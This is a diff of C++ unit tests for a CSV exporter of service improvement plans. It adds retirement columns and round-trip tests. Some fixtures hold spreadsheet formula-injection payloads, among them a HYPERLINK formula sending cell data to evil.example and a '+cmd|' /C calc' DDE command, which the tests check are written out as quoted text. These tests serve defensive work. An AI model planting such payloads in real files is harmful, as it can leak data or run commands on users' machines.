@@ -20,7 +20,7 @@ const fs::path kPlans = CSIP_PLANS_DIR;
 const std::string kHeader =
     "workstream_id,workstream_title,workstream_sponsor,workstream_lead,commitment_id,"
     "commitment_text,recommendations,action_id,action_text,lead,due,original_due,status,rag,"
-    "latest_update_on,latest_update_by,latest_update_text\r\n";
+    "latest_update_on,latest_update_by,latest_update_text,retired_on,retired_by,retired_reason\r\n";
 
 domain::Plan canonical_plan() {
     auto result = import::read_plan_json(testing::read_file(kPlans / "valid" / "canonical.json"),
@@ -50,9 +50,9 @@ TEST(WritePlanCsv, WritesOneRowPerActionInPeoplesWords) {
     ASSERT_EQ(rows.size(), 5U);  // the header and four actions
     EXPECT_EQ(rows[1],
               "W1,Practice,Director,Head of Service,C1,Timely assessments,R1,A1,Do A1,Head of "
-              "Service,2015-12-01,2015-12-01,Not started,,,,");
+              "Service,2015-12-01,2015-12-01,Not started,,,,,,,");
     EXPECT_EQ(rows[2].substr(rows[2].find(",A2,")),
-              ",A2,Do A2,Head of Service,2015-08-01,2015-08-01,In progress,Red,,,");
+              ",A2,Do A2,Head of Service,2015-08-01,2015-08-01,In progress,Red,,,,,,");
     EXPECT_NE(rows[4].find(",Complete,,"), std::string::npos) << rows[4];
 }
 
@@ -67,7 +67,7 @@ TEST(WritePlanCsv, QuotesFieldsThatHoldCommasQuotesLineBreaksOrEdgeSpaces) {
     const auto csv = write_plan_csv(plan);
     EXPECT_NE(csv.find(",R1;R2,A2,\"Audit, then \"\"report\"\"\nto the board\",\" Head of "
                        "Service\",2015-08-01,2015-08-01,In progress,Red,2015-09-01,Manager,"
-                       "\"Done, mostly.\"\r\n"),
+                       "\"Done, mostly.\",,,\r\n"),
               std::string::npos)
         << csv;
 }
@@ -85,7 +85,22 @@ TEST(WritePlanCsv, WritesCellsASpreadsheetWouldRunAsFormulasAsQuotedText) {
     ASSERT_EQ(rows.size(), 5U);
     EXPECT_EQ(rows[2].substr(rows[2].find(",A2,")),
               ",A2,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'@SUM(1+1)\","
-              "2015-08-01,2015-08-01,In progress,Red,2015-09-01,\"'-2+3\",\"'+cmd|' /C calc'!A0\"");
+              "2015-08-01,2015-08-01,In progress,Red,2015-09-01,\"'-2+3\",\"'+cmd|' /C calc'!A0\","
+              ",,");
+}
+
+TEST(WritePlanCsv, WritesARetiredActionsRetirementAsTextASpreadsheetWillNotRun) {
+    auto plan = fixture::small_plan();
+    auto& action = plan.workstreams[0].commitments[0].actions[1];
+    action.text = "=HYPERLINK(\"http://evil.example\",\"Click\")";
+    action.retired = domain::Retirement{fixture::d("2015-09-10"), "@amy", "-merged into A3"};
+    const auto rows = rows_of(write_plan_csv(plan));
+    ASSERT_EQ(rows.size(), 5U);
+    EXPECT_EQ(rows[2].substr(rows[2].find(",A2,")),
+              ",A2,\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Click\"\")\",Head of Service,"
+              "2015-08-01,2015-08-01,In progress,Red,,,,2015-09-10,\"'@amy\",\"'-merged into A3\"");
+    // An action in the plan leaves the three blank.
+    EXPECT_EQ(rows[1].substr(rows[1].size() - 3), ",,,");
 }
 
 TEST(WritePlanCsv, GuardsCellsStartingWithATabOrCarriageReturnButNotPlainNumbers) {
@@ -128,11 +143,11 @@ TEST(WritePlanCsv, GivesARowToACommitmentWithNoActionsAndAWorkstreamWithNoCommit
     EXPECT_NE(std::find(rows.begin(), rows.end(),
                         "W2,Improving the Quality of our Practice,Director of Communities,Head of "
                         "Children and Families Services,C2.2,\"Supervision is regular, recorded "
-                        "and reflective.\",R1,,,,,,,,,,"),
+                        "and reflective.\",R1,,,,,,,,,,,,,"),
               rows.end());
     EXPECT_EQ(rows.back(),
               "W5,Improving Services to Children Looked After and Care Leavers,Director of "
-              "Communities,\"Service Manager, Children in Care\",,,,,,,,,,,,,");
+              "Communities,\"Service Manager, Children in Care\",,,,,,,,,,,,,,,,");
 }
 
 TEST(PlanCsvRoundTrip, ImportingAnExportOverTheSameStoredPlanGivesThatPlan) {
@@ -142,6 +157,19 @@ TEST(PlanCsvRoundTrip, ImportingAnExportOverTheSameStoredPlanGivesThatPlan) {
         ASSERT_TRUE(result.plan);
         EXPECT_EQ(write_plan_json(*result.plan), write_plan_json(plan));
     }
+}
+
+// A plan edited item by item, its retired items included, comes back as it was: an action's
+// retirement through its columns, the rest from the stored plan.
+TEST(PlanCsvRoundTrip, KeepsRetiredItemsVersionsAndMeasureStatus) {
+    auto read = import::read_plan_json(testing::read_file(kPlans / "valid" / "retired.json"),
+                                       "retired.json");
+    ASSERT_TRUE(read.plan);
+    const auto& plan = *read.plan;
+    const auto result = import::read_plan_csv(write_plan_csv(plan), "plan.csv", &plan);
+    ASSERT_TRUE(result.problems.empty()) << to_string(result.problems.front());
+    ASSERT_TRUE(result.plan);
+    EXPECT_EQ(write_plan_json(*result.plan), write_plan_json(plan));
 }
 
 TEST(PlanCsvRoundTrip, ASpreadsheetReadAndWrittenBackReadsAsTheSamePlan) {
